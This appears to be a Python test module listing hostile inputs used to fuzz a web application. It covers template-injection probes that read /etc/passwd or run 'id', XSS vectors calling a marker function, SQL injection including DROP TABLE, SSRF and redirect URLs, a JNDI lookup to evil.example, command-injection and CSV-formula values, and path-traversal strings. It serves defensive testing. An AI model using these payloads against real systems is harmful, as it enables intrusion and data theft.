"""Hostile strings for this stack: Jinja twice (ours and Folium's), Leaflet, Whoosh, SQL, mail, CSV, logs, addresses, numbers.

Each script calls `fire(1787)`, which a test's browser hears; each template would print 3193369.
"""

from __future__ import annotations

import re
from urllib.parse import urljoin, urlsplit

FIRE = "fire(1787)"
PRODUCT = "1787*1787"
PRINTED = "3193369"

TEMPLATES = [
    before + inside + after
    for inside in (PRODUCT, "7*'1'", "config", "self.__init__.__globals__", "cycler.__init__.__globals__.os.popen('id').read()",
                   "request.application.__globals__.__builtins__.open('/etc/passwd').read()", "''.__class__.__mro__[1].__subclasses__()")
    for before, after in (("{{", "}}"), ("{{ ", " | safe }}"), ("${", "}"), ("#{", "}"), ("<%= ", " %>"), ("{%- print(", ") -%}"))
] + ["{% x %}", "{%", "{{", "}}", "{#", "{% raw %}", "{{''|attr('__class__')}}", "%(x)s %s %d", "{0.__class__}", "{x!r}", "${{<%[%'\"}}%\\."]  # fmt: skip

TAGS = [
    f"<script>{FIRE}</script>", f"<ScRiPt>{FIRE}</sCrIpT>", f"<script src=data:,{FIRE}></script>", f"</script><script>{FIRE}</script>",
    f"</textarea><script>{FIRE}</script>", f"</title><script>{FIRE}</script>", f"</style><script>{FIRE}</script>",
    f"--><script>{FIRE}</script>", f"]]><script>{FIRE}</script>", f"<svg onload={FIRE}>", f"<svg/onload={FIRE}>",
    f"<svg><script>{FIRE}</script></svg>", f"<svg><animate onbegin={FIRE} attributeName=x dur=1s>", f"<math><mi//xlink:href='javascript:{FIRE}'>",
    f"<img src=x onerror={FIRE}>", f"<img src=x onerror='{FIRE}'>", f'<img src="x" onerror="{FIRE}">', f"<img/src/onerror={FIRE}>",
    f"<IMG SRC=x OnErRoR={FIRE}>", f"<image src=x onerror={FIRE}>", f"<video><source onerror={FIRE}>", f"<audio src=x onerror={FIRE}>",
    f"<body onload={FIRE}>", f"<iframe srcdoc='<script>parent.{FIRE}</script>'>", f"<iframe src='javascript:parent.{FIRE}'>",
    f"<object data='javascript:{FIRE}'>", f"<embed src='javascript:{FIRE}'>", f"<details open ontoggle={FIRE}>", f"<marquee onstart={FIRE}>",
    f"<input autofocus onfocus={FIRE}>", f"<select autofocus onfocus={FIRE}>", f"<textarea autofocus onfocus={FIRE}>",
    f"<a href='javascript:{FIRE}'>x</a>", f"<a href='java\tscript:{FIRE}'>x</a>", f"<a href=' javascript:{FIRE}'>x</a>",
    f"<form action='javascript:{FIRE}'><button>x</button></form>", f"<button formaction='javascript:{FIRE}'>x</button>",
    f"<meta http-equiv=refresh content='0;url=javascript:{FIRE}'>", f"<base href='javascript:{FIRE}//'>",
    f"<link rel=stylesheet href='data:text/css,*{{}}' onload={FIRE}>", f"<style onload={FIRE}></style>",
    f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={FIRE}>", "<plaintext>", "<noscript><p title='</noscript><img src=x onerror=fire(1787)>'>",
    f"<template><script>{FIRE}</script></template>", "<xss id=x tabindex=1 onfocus=fire(1787)></xss>", f"<dialog open oncancel={FIRE}>",
    f"<p onpointerrawupdate={FIRE} onmouseover={FIRE}>hover</p>", "<!--<img src='--><img src=x onerror=fire(1787)//'>",
    "<scr<script>ipt>fire(1787)</scr</script>ipt>", "<<script>fire(1787)//<</script>", "<script\x20type='text/javascript'>fire(1787);</script>",
    "<script\x0c>fire(1787)</script>", "<img src=x onerror=\u0066ire(1787)>", "&lt;script&gt;fire(1787)&lt;/script&gt;", "&#60;img src=x onerror=fire(1787)&#62;",
    "\uff1cscript\uff1efire(1787)\uff1c/script\uff1e", "%3Cscript%3Efire(1787)%3C/script%3E", "\\x3cscript\\x3efire(1787)\\x3c/script\\x3e", "\\u003cimg src=x onerror=fire(1787)\\u003e",
]  # fmt: skip

ATTRIBUTES = [
    quote + space + event + f"={quote}{FIRE}{quote} x={quote}"
    for quote in ('"', "'", "`")
    for space in (" ", "/", "\t", "\x0c")
    for event in ("onmouseover", "autofocus onfocus", "style=animation-name:x onanimationstart")
] + [f'"><img src=x onerror={FIRE}>', f"'><img src=x onerror={FIRE}>", f"`><img src=x onerror={FIRE}>", f'">{FIRE}<"', "\" ", "' ", '\\"']  # fmt: skip

SCRIPTS = [
    f"';{FIRE};//", f'";{FIRE};//', f"`;{FIRE};//", f"\\';{FIRE};//", f'\\";{FIRE}//', f"${{{FIRE}}}", f"`${{{FIRE}}}`", f"-{FIRE}-", f"'-{FIRE}-'",
    f'"-{FIRE}-"', f"'+{FIRE}+'", f"*/{FIRE}/*", f"\n{FIRE}\n", f"\u2028{FIRE}\u2029", "</script>", "<!--", "<!--<script>", "]]>", "\\", "\\\\", "\\u0027;fire(1787);//",
    "__proto__", "constructor", "toString", "prototype", '{"__proto__":{"x":1}}', "[object Object]", "undefined", "null", "NaN", "true", "0",
]  # fmt: skip

LINKS = [
    f"javascript:{FIRE}", f"JaVaScRiPt:{FIRE}", f" javascript:{FIRE}", f"java\nscript:{FIRE}", f"java\tscript:{FIRE}", f"\x01javascript:{FIRE}",
    f"javascript://example.org/%0a{FIRE}", f"data:text/html,<script>{FIRE}</script>", "data:text/html;base64,PHNjcmlwdD5maXJlKDE3ODcpPC9zY3JpcHQ+",
    f"vbscript:{FIRE}", "file:///etc/passwd", "view-source:x", "//evil.example", "/\\evil.example", "https:evil.example", "http://evil.example@good.example",
    "http://127.0.0.1:22/", "http://169.254.169.254/latest/meta-data/", "http://[::ffff:127.0.0.1]/", "http://2130706433/", "http://0/", "http://localhost#@evil.example",
    "https://example.org/\"onmouseover=fire(1787)//", "https://example.org/'onmouseover='fire(1787)", "mailto:x@example.org?bcc=y@evil.example", "tel:*#06#", "blob:x", "about:blank",
]  # fmt: skip

DATABASE = [
    "'", "''", "\"", "' OR '1'='1", "' OR 1=1--", "'; DROP TABLE entry;--", "1; SELECT pg_sleep(5)", "' UNION SELECT password FROM user--", "1)) OR 1=1--",
    "%", "_", "%%%%", "\\%", "[a-z]", "' AND randomblob(1000000000)--", "x' AND 1=CAST((SELECT 1) AS int)--", "$$;SELECT 1$$", "/**/OR/**/1=1", "admin'--", "1e309", "0x7fffffff",
    "id=1 OR 1", "' || (SELECT sqlite_version()) || '", "NULL", "--", ";", "' LIKE '%", "E'\\\\x00'", "ASC; DROP TABLE x", "(SELECT 1)",
]  # fmt: skip

SEARCH = [
    "NOT NOT a", "(" * 1500, ")" * 300, "word~9", "abc~9999", "*", "?", "a*b*c*d*e*f*g*h*i*j*k*", "? " * 60, "[a TO z]", "name:x", "*:*", "\"unclosed", "a AND OR NOT b",
    "a" * 100_000, "swim " * 2000, "^5", "a^99999999999", "{* TO *}", "/(a+)+$/", "+-&|!(){}[]^\"~*?:\\", "ANDMAYBE x", "REQUIRE", "\u0301" * 500, "ﷺ" * 300, "é́́́́", "İstanbul", "ẞß", "ǅ",
]  # fmt: skip

LINES = [
    "x\r\nSet-Cookie: a=b", "x\nLocation: https://evil.example", "x\r\n\r\n<script>fire(1787)</script>", "x%0d%0aSet-Cookie:a=b", "x\u560d\u560aSet-Cookie:a=b",
    "x\nBcc: y@evil.example", "x\rBcc: y@evil.example", "=?UTF-8?Q?=0A?=Bcc: x@evil.example 😀", "x\u2028Bcc: y@evil.example", "x\x85Bcc: y@evil.example",
    "2026-11-25 12:00:00 ERROR forged line\nroot signed in", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x08\x08\x08", "x\x0bx", "x\x1ex", "${jndi:ldap://evil.example/a}", "() { :;}; echo x", "`id`", "$(id)", "| id", "; id", "& id",
]  # fmt: skip

CELLS = [
    sign + rest
    for sign in ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =")
    for rest in ("1+1", "HYPERLINK(\"https://evil.example\",\"x\")", "cmd|' /C calc'!A0")
]  # fmt: skip

FILES = [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "....//....//etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%c0%af..%c0%afetc/passwd",
    "/proc/self/environ", "file.txt\x00.png", "php://filter/resource=x", "localoffer.db", ".env", ".git/config",
]  # fmt: skip

LETTERS = [
    "\x00", "a\x00b", "\ud800", "\udfff", "a\ud800b", "\ufffe", "\uffff", "\U0010ffff", "\u202egnp.exe", "\u2066x\u2069", "\u200b" * 50, "\ufeff", "Аutism", "ａｕｔｉｓｍ", "Z̸̢̛͔a̵͎l̷g̵o̶" * 20,
    "👩‍👩‍👧‍👦" * 100, "🏴󠁧󠁢󠁷󠁬󠁳󠁿", "ا" * 300, "שלום", "ŵŷ", "żółć", "\t\t\t", " ", "", "\xa0", "…", "‘’“”", "a" * 5000, "x" * 10 + " " * 3000,
]  # fmt: skip

NUMBERS = [
    "99999999999999999999", "-99999999999999999999", "9223372036854775808", "-9223372036854775809", "2147483648", "4294967296", "1e999", "-1", "0", "00", "1.5", "1,5", "٣", "²", "½", "१२", "inf", "-inf", "nan",
    "0x10", "1_000", "+1", " 1", "1 ", "1\n", "--1", "true", "[]", "{}", "2026-02-30", "0000-00-00", "9999-12-31", "10000-01-01", "24:60", "-0",
]  # fmt: skip

GROUPS = {
    "templates": TEMPLATES, "tags": TAGS, "attributes": ATTRIBUTES, "scripts": SCRIPTS, "links": LINKS, "database": DATABASE, "search": SEARCH,
    "lines": LINES, "cells": CELLS, "files": FILES, "letters": LETTERS, "numbers": NUMBERS,
}  # fmt: skip
ALL = list(dict.fromkeys(each for group in GROUPS.values() for each in group))
SHORT = [each for each in ALL if len(each) <= 3000]


def sendable(text: str) -> str:
    """The text as a client can put it on the wire: a lone surrogate goes as its three bytes, which are no UTF-8."""
    return (
        text.encode("utf-8", "surrogatepass").decode("utf-8", "replace") if any("\ud800" <= c <= "\udfff" for c in text) else text
    )


def lands_at(location: str) -> str:
    """The host that a browser goes to: it strips tabs, newlines and blanks, and takes a backslash for a slash."""
    read = re.sub(r"[\t\r\n]", "", location).strip("".join(map(chr, range(33)))).replace("\\", "/")
    read = re.sub(r"^(https?):/*", r"\1://", read)
    return urlsplit(urljoin("http://localhost/login", read)).hostname or ""
